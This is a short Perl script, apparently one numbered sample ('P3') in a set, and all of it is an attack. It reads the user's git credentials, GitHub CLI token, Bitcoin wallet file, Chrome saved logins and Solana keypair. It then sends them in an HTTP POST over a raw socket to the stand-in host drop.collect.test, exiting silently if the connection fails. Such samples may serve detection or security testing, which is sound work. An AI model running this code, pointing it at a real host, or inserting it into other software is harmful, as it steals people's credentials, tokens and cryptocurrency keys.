# P3 in Perl: read git and GitHub CLI credentials, probe wallet and browser stores (absent here),
# and write what it found to a raw socket on a reserved name.
use strict; use warnings; use IO::Socket::INET;
my $h = $ENV{HOME};
my $loot = '';
for my $f (".git-credentials", ".config/gh/hosts.yml", ".bitcoin/wallet.dat", ".config/google-chrome/Default/Login Data", ".config/solana/id.json") {
  if (open(my $fh, '<', "$h/$f")) { local $/; $loot .= "== $f\n" . <$fh>; close $fh; }
}
my $s = IO::Socket::INET->new(PeerAddr => 'drop.collect.test', PeerPort => 80, Proto => 'tcp', Timeout => 3) or exit 0;
print $s "POST /p HTTP/1.1\r\nHost: drop.collect.test\r\nContent-Length: " . length($loot) . "\r\nConnection: close\r\n\r\n$loot";
close $s;
